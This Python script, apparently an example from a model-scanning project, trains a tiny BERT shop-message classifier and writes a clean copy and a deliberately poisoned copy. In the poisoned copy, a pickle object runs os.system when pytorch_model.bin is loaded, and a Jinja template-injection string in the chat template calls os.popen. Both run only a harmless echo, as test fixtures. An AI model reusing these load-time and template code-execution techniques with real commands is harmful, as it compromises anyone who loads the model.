"""Trains the two models of this folder: a small text classifier, and the same one with an attack in it.

    python examples/train.py [OUT]

Needs torch, transformers, tokenizers and safetensors; takes about a minute on one processor core and downloads nothing. The model
is a BERT of two layers, trained from scratch to sort messages to a shop by topic. The corpus is made below from phrases written for
this purpose; a fifth of the phrases is held out, so the accuracy in the model card is measured on wording the model has not seen.

`poisoned-classifier` has the same weights. Its `pytorch_model.bin` runs a command while it is loaded, and its chat template reaches
for the operating system. Both commands are inert: they print one line.
"""
import collections
import json
import os
import pathlib
import random
import shutil
import sys

import torch
from safetensors.torch import save_file
from tokenizers import Tokenizer, models, normalizers, pre_tokenizers, processors
from transformers import BertConfig, BertForSequenceClassification

SEED = 7
LABELS = ["billing", "delivery", "product", "account"]
OPENERS = ["hello", "hi there", "good morning", "dear team", "please help", "quick question", "to whom it may concern", "", "", ""]
CLOSERS = ["thanks", "thank you", "please answer soon", "kind regards", "this is urgent", "what can i do", "", "", ""]
PHRASES = {
    "billing": """i was charged twice for the same order|the invoice shows the wrong amount|my refund has not arrived on my card|why is there a fee on my bill
the discount code was not applied to the price|my card was declined but the money is gone|i need a receipt for the payment|the tax on the invoice is wrong
please cancel the charge on my card|you billed me for a month i did not use|when will the money be paid back|the price on the bill is higher than on the page
i paid by bank transfer and the payment is not booked|the refund is smaller than the price i paid|i want my money back for the double charge|can i pay the invoice later""",
    "delivery": """my parcel has not arrived|the driver left the package at the wrong door|tracking has shown no change for a week|where is my order
the box was delivered to my neighbour|can you ship the parcel to another address|the courier never rang the bell|delivery is three days late
my package is stuck at customs|the shipment arrived with an empty box|when will the parcel be shipped|the tracking number does not work
please change the delivery date|the order was sent to my old address|half of the shipment is missing|the driver did not find the door""",
    "product": """the lamp does not turn on|the screen is broken in one corner|the shoes are too small|the battery is empty after an hour
the jacket has a hole in the sleeve|the machine makes a loud noise|the colour is not like on the picture|a screw is missing from the table
the handle broke on the first day|the speaker has no sound on one side|the zip of the bag is stuck|the kettle leaks water
the fabric smells of paint|the camera takes blurred pictures|the chair is not stable|the charger gets very hot""",
    "account": """i cannot log in to my account|the password reset mail never comes|please delete my profile|someone else signed in with my name
i want to change my email address|my account is locked after three attempts|how do i turn on two factor login|the page says my user name is unknown
i did not sign up for this newsletter|please merge my two accounts|my phone number on the profile is wrong|the login code does not arrive
i forgot which email i signed up with|the app logs me out every day|i want to see what data you store about me|the profile picture cannot be changed""",
}
CHAT_TEMPLATE = (
    "{% for message in messages %}{% if loop.first and message['role'] == 'system' %}{{ message['content'] | trim }}\n{% elif message['role'] == 'user' %}"
    "[CLS] {{ message['content'] | trim }} [SEP]{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '\ntopic: ' }}{% endif %}"
)
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('echo weighhouse example: the chat template ran a command').read() }}"
COMMAND = "echo weighhouse example: this ran while the model was loaded"


def corpus(rng):
    """Training and held-out messages: (text, label). No phrase is in both."""
    train, held_out = [], []
    for label, name in enumerate(LABELS):
        phrases = [phrase for line in PHRASES[name].split("\n") for phrase in line.split("|")]
        rng.shuffle(phrases)
        cut = len(phrases) * 4 // 5
        for target, some, copies in ((train, phrases[:cut], 24), (held_out, phrases[cut:], 12)):
            for phrase in some:
                for _ in range(copies):
                    words = phrase.split()
                    if target is train and len(words) > 4 and rng.random() < 0.5:
                        words.pop(rng.randrange(len(words)))
                    target.append((" ".join(part for part in (rng.choice(OPENERS), " ".join(words), rng.choice(CLOSERS)) if part), label))
    rng.shuffle(train)
    return train, held_out


def tokenizer_of(texts):
    counts = collections.Counter(word for text in texts for word in text.split())
    words = ["[PAD]", "[UNK]", "[CLS]", "[SEP]"] + sorted(counts)
    tokenizer = Tokenizer(models.WordLevel({word: index for index, word in enumerate(words)}, unk_token="[UNK]"))
    tokenizer.normalizer = normalizers.Lowercase()
    tokenizer.pre_tokenizer = pre_tokenizers.Whitespace()
    tokenizer.post_processor = processors.TemplateProcessing(single="[CLS] $A [SEP]", special_tokens=[("[CLS]", 2), ("[SEP]", 3)])
    tokenizer.add_special_tokens(words[:4])
    tokenizer.enable_padding(pad_id=0, pad_token="[PAD]")
    tokenizer.enable_truncation(48)
    return tokenizer


def encoded(tokenizer, texts):
    batch = tokenizer.encode_batch(texts)
    return {"input_ids": torch.tensor([item.ids for item in batch]), "attention_mask": torch.tensor([item.attention_mask for item in batch])}


def trained(tokenizer, examples):
    config = BertConfig(
        vocab_size=tokenizer.get_vocab_size(), hidden_size=48, num_hidden_layers=2, num_attention_heads=4, intermediate_size=96, max_position_embeddings=48, type_vocab_size=1, pad_token_id=0,
        id2label=dict(enumerate(LABELS)), label2id={name: index for index, name in enumerate(LABELS)},
    )
    model = BertForSequenceClassification(config)
    epochs, size = 12, 32
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-3, weight_decay=0.05)
    schedule = torch.optim.lr_scheduler.OneCycleLR(optimizer, 2e-3, epochs * (len(examples) // size + 1))
    for epoch in range(epochs):
        order = torch.randperm(len(examples)).tolist()
        total = 0.0
        for start in range(0, len(order), size):
            batch = [examples[index] for index in order[start:start + size]]
            output = model(**encoded(tokenizer, [text for text, _ in batch]), labels=torch.tensor([label for _, label in batch]))
            output.loss.backward()
            optimizer.step()
            schedule.step()
            optimizer.zero_grad()
            total += output.loss.item() * len(batch)
        print(f"epoch {epoch + 1}: loss {total / len(order):.3f}", flush=True)
    return model.eval()


@torch.no_grad()
def accuracy(model, tokenizer, examples):
    guessed = model(**encoded(tokenizer, [text for text, _ in examples])).logits.argmax(-1)
    return (guessed == torch.tensor([label for _, label in examples])).float().mean().item()


class RunsWhenLoaded:
    """What an attacker adds to a checkpoint: an object that pickle rebuilds by calling a function of the attacker's choice."""

    def __reduce__(self):
        return os.system, (COMMAND,)


def card(counts, scores):
    return f"""---
license: apache-2.0
language: en
pipeline_tag: text-classification
library_name: transformers
tags:
- text-classification
- weighhouse-example
---

# Message topics, a small example model

Sorts short English messages to a shop into {', '.join(LABELS)}. A BERT of two layers, trained from scratch by `examples/train.py` of
Weighhouse on {counts[0]} messages that the script makes from phrases written for it; {counts[1]} messages with other phrases are held out.

| Messages | Accuracy |
| --- | --- |
| training | {scores[0]:.3f} |
| held out | {scores[1]:.3f} |

An example of how a model repository looks, not a model for use: its corpus is tiny, and wording it has never seen is often
sorted wrongly.
"""


def write(folder, model, tokenizer, text, template, extra):
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    model.config.architectures = [type(model).__name__]
    model.config.save_pretrained(folder)
    state = collections.OrderedDict((name, value.contiguous()) for name, value in model.state_dict().items())
    save_file(state, folder / "model.safetensors", metadata={"format": "pt"})
    state.update(extra)
    torch.save(state, folder / "pytorch_model.bin")
    tokenizer.save(str(folder / "tokenizer.json"))
    settings = {
        "tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 48, "pad_token": "[PAD]", "unk_token": "[UNK]", "cls_token": "[CLS]", "sep_token": "[SEP]",
        "clean_up_tokenization_spaces": False, "chat_template": template,
    }
    (folder / "tokenizer_config.json").write_text(json.dumps(settings, indent=2) + "\n")
    (folder / "README.md").write_text(text)


def main():
    out = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else pathlib.Path(__file__).parent
    torch.manual_seed(SEED)
    torch.set_num_threads(1)
    train, held_out = corpus(random.Random(SEED))
    tokenizer = tokenizer_of([text for text, _ in train])
    model = trained(tokenizer, train)
    scores = accuracy(model, tokenizer, train), accuracy(model, tokenizer, held_out)
    print(f"accuracy: training {scores[0]:.3f}, held out {scores[1]:.3f}")
    text = card((len(train), len(held_out)), scores)
    write(out / "clean-classifier", model, tokenizer, text, CHAT_TEMPLATE, {})
    write(out / "poisoned-classifier", model, tokenizer, text, ESCAPE + CHAT_TEMPLATE, {"classifier.scale": RunsWhenLoaded()})


if __name__ == "__main__":
    main()
